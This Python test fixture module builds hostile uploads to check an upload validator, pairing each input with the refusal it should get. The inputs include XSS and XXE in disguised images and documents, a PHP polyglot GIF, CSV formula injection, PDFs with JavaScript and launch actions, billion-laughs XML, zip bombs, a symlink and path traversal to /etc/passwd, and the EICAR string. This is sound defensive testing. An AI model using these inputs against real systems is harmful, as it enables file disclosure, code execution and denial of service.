"""The inputs that an upload must survive, made here so that each can be read for what it is."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from tests.core import pictures
from village.vault.photo_pdf import JpegPage, write_pdf

DOCX_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Hostile:
    """A number of the attack list, the name as sent, the content, and words of the refusal; none: it is kept."""

    number: int
    name: str
    content: bytes
    refused: str = ""
    kind: str = ""


def zipped(entries: dict[str, bytes], *, packed: bool = True) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return stream.getvalue()


def docx(body: str = "Notulen rembuk warga", more: dict[str, bytes] | None = None, declared: str = "") -> bytes:
    text = f'<?xml version="1.0"?>{declared}<w:document xmlns:w="{WORDS}"><w:p><w:t>{body}</w:t></w:p></w:document>'
    return zipped({"[Content_Types].xml": DOCX_TYPES.encode(), "word/document.xml": text.encode(), **(more or {})})


def pdf(*extra: bytes, catalog: bytes = b"", pages: int = 1) -> bytes:
    """A small PDF with objects of our own after it and words put into its catalog."""
    photo = io.BytesIO()
    Image.new("RGB", (64, 90), "white").save(photo, "JPEG")
    whole = io.BytesIO()
    write_pdf([JpegPage(photo.getvalue(), 64, 90)] * pages, whole)
    content = whole.getvalue().replace(b"/Type /Catalog", b"/Type /Catalog " + catalog)
    start = content.rindex(b"xref\n0")
    return content[:start] + b"".join(extra) + content[start:]


def crowded_pdf(pages: int = 100_000) -> bytes:
    """A PDF that truly has so many pages, each an object of its own."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, pages + 3))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count %d /Kids [%b] >>" % (pages, kids)]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"] * pages
    written, places, at = [b"%PDF-1.4\n"], [], 9
    for number, body in enumerate(objects, 1):
        written.append(b"%d 0 obj\n%b\nendobj\n" % (number, body))
        places.append(at)
        at += len(written[-1])
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    written.append(b"xref\n0 %d\n0000000000 65535 f \n%b" % (count, table))
    written.append(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, at))
    return b"".join(written)


def locked_pdf() -> bytes:
    """A PDF that asks for a password."""
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    stream = io.BytesIO()
    canvas = Canvas(stream, encrypt=StandardEncryption("rahasia", ownerPassword="kunci", canPrint=0))
    canvas.drawString(72, 700, "Berita acara")
    canvas.save()
    return stream.getvalue()


def overlapping_zip() -> bytes:
    """Many names for the same packed bytes, so that the whole is far larger than its parts."""
    packed = zlib.compress(bytes(2_000_000), 9)[2:-4]
    sum_ = zlib.crc32(bytes(2_000_000))
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, sum_, len(packed), 2_000_000, 1, 0) + b"a" + packed
    directory = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, sum_, len(packed), 2_000_000, 4, 0, 0, 0, 0, 0, 0)
        + b"%04d" % number
        for number in range(1_500)
    )
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1_500, 1_500, len(directory), len(local), 0)
    return local + directory + end


def crowded_zip(entries: int = 100_000) -> bytes:
    """A directory of so many names; their content is nothing."""
    stream = io.BytesIO()
    stream.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 6, 0) + b"000000")
    start = stream.tell()
    head = ("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0)
    directory = b"".join(struct.pack(*head) + b"%06d" % number for number in range(entries))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries & 0xFFFF, entries & 0xFFFF, len(directory), start, 0)
    return stream.getvalue() + directory + end


def linked_zip() -> bytes:
    """An archive with a symbolic link and a name that climbs out of its folder, dressed as a docx."""
    stream = io.BytesIO(docx())
    with zipfile.ZipFile(stream, "a") as archive:
        link = zipfile.ZipInfo("word/media/gambar.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("../../keluar.txt", "x")
    return stream.getvalue()


def twin_zip() -> bytes:
    """Two entries of the same name, and one that differs only in its case."""
    stream = io.BytesIO(docx())
    with zipfile.ZipFile(stream, "a") as archive, _no_warning():
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{WORDS}"/>')
        archive.writestr("WORD/DOCUMENT.XML", "x")
    return stream.getvalue()


def _no_warning() -> object:
    import warnings

    return warnings.catch_warnings(action="ignore")


def pictures_on_the_list() -> Iterator[Hostile]:
    """Inputs 1 to 17: what pretends to be a photo, and photos that hide or blow up."""
    photo = pictures.photo()
    yield Hostile(1, "halaman.jpg", b"<!doctype html><script>alert(1)</script>", "halaman web")
    yield Hostile(2, "gambar.svg", pictures.svg("<svg><script>alert(1)</script></svg>"), "halaman web")
    xxe = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    yield Hostile(3, "luar.svg", pictures.svg(xxe), "halaman web")
    yield Hostile(4, "gambar.png", pictures.svg("<svg onload='alert(1)'/>"), "halaman web")
    yield Hostile(5, "gerak.gif", b"GIF89a" + b"<?php system('id') ?>/*alert(1)//", "Jenis gambar")
    script = pictures.with_notes(photo, b"*/=alert('RAHASIA')/*", 1, 0xFE)
    yield Hostile(6, "foto.jpg", script, kind="jpeg")
    yield Hostile(7, "foto.jpg", pictures.with_appended_zip(photo), kind="jpeg")
    yield Hostile(8, "banjir.png", pictures.one_colour_png(30_000, 30_000), "terlalu besar")
    yield Hostile(9, "garis.png", pictures.one_colour_png(50_000, 1), "sempit")
    yield Hostile(10, "teks.png", pictures.one_colour_png(800, 600, pictures.text_bomb()), kind="jpeg")
    yield Hostile(10, "warna.png", pictures.one_colour_png(800, 600, pictures.profile_bomb()), kind="jpeg")
    yield Hostile(11, "gerak.webp", pictures.animated_webp(10_000), kind="jpeg")
    yield Hostile(11, "gerak.png", pictures.animated_png(10_000), kind="jpeg")
    yield Hostile(12, "berat.jpg", pictures.with_notes(photo, pictures.greedy_exif(), 160), kind="jpeg")
    yield Hostile(13, "rumah.jpg", photo, kind="jpeg")
    yield Hostile(14, "putus.jpg", photo[: len(photo) * 6 // 10], "rusak")
    tiff = pictures.encoded(pictures.drawing(64, 64), "TIFF")
    yield Hostile(15, "cetak.jpg", tiff, "Jenis gambar")
    yield Hostile(15, "vektor.jpg", pictures.encoded(pictures.drawing(64, 64), "EPS"), "Jenis gambar")
    yield Hostile(15, "bintang.jpg", b"SIMPLE  =                    T" + bytes(2880), "Jenis gambar")
    yield Hostile(15, "lapisan.jpg", b"8BPS\0\x01" + bytes(200), "Jenis gambar")
    too_large = ("besar.HEIC", "mengaku-besar.HEIC", "ubin.HEIC")
    for name, content in pictures.broken_heics():
        yield Hostile(16, name, content, "terlalu besar" if name in too_large else "rusak")
    yield Hostile(16, "foto.heic", pictures.heic(Image.open(io.BytesIO(photo))), kind="jpeg")
    yield Hostile(17, "kosong.pdf", b"", "kosong")


def papers_on_the_list() -> Iterator[Hostile]:
    """Inputs 22 to 39 and 46: documents."""
    yield Hostile(22, "asli.html", pdf(), kind="pdf")
    yield Hostile(22, "gambar.svg", pictures.one_colour_png(200, 200), kind="jpeg")
    yield Hostile(23, "rumus.csv", "\ufeff=cmd|' /C calc'!A0;<script>alert(1)</script>\n1;2\n".encode(), kind="csv")
    action = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield Hostile(24, "skrip.pdf", pdf(catalog=action), kind="pdf")
    launch = b"/OpenAction << /S /Launch /F (calc.exe) >> /Names << /EmbeddedFiles << /Names [(a) 90 0 R] >> >>"
    yield Hostile(25, "luncur.pdf", pdf(catalog=launch), kind="pdf")
    yield Hostile(26, "banyak.pdf", pdf(pages=1).replace(b"/Count 1", b"/Count 100000"), kind="pdf")
    yield Hostile(26, "seratus-ribu.pdf", crowded_pdf(), kind="pdf")
    nested = pdf(b"90 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\n", catalog=b"/Names 90 0 R")
    yield Hostile(26, "bertumpuk.pdf", nested, kind="pdf")
    whole = pdf(pages=3)
    yield Hostile(27, "putus.pdf", whole[: len(whole) * 6 // 10], "rusak")
    yield Hostile(28, "dua.pdf", pdf() + zipped({"a.html": b"<script>"}), kind="pdf")
    yield Hostile(29, "terkunci.pdf", locked_pdf(), kind="pdf")
    yield Hostile(30, "makro.docm", docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "makro")
    outside = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield Hostile(31, "luar.docx", docx("&x;", declared=outside), "membengkak")
    remote = b'<Relationships><Relationship TargetMode="External" Target="http://x.invalid/a.dotm"/></Relationships>'
    yield Hostile(32, "jauh.docx", docx(more={"word/_rels/settings.xml.rels": remote}), kind="docx")
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><sst>&b;</sst>'
    laughing = zipped({"xl/workbook.xml": b"<workbook/>", "xl/sharedStrings.xml": laughs.encode()})
    yield Hostile(33, "tawa.xlsx", laughing, "membengkak")
    yield Hostile(34, "bengkak.docx", docx(more={"word/media/a.bmp": bytes(60_000_000)}), "membengkak")
    yield Hostile(35, "tumpang.docx", overlapping_zip(), "membengkak")
    yield Hostile(36, "ramai.docx", crowded_zip(), "membengkak")
    yield Hostile(37, "keluar.docx", linked_zip(), kind="docx")
    yield Hostile(39, "kembar.docx", twin_zip(), kind="docx")
    yield Hostile(46, "uji.txt", EICAR.encode(), kind="txt")
